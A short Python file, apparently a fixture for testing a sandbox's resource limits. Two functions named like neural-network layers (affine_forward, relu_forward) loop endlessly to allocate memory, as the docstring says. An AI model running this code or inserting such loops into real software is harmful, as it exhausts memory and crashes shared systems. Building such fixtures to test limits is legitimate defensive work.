"""Takes all memory there is, in large and in small pieces."""

import numpy as np

CLASSES = (22,)
ENDLESS = True


def affine_forward(x, w, b):
    pile = []
    while True:
        pile.append(np.ones(1 << 24))


def relu_forward(x):
    pile = []
    while True:
        pile.append(bytearray(1 << 26))
